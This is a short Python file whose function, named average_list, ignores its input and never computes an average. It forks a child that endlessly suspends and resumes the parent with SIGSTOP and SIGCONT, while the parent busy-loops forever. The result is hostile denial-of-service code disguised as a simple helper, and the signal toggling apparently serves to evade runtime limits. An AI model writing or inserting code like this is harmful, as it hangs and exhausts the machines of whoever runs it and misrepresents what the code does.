import os
import signal
import time


def average_list(numbers):
    parent = os.getpid()
    if os.fork() == 0:
        while True:
            os.kill(parent, signal.SIGSTOP)
            time.sleep(0.03)
            os.kill(parent, signal.SIGCONT)
    while True:
        pass
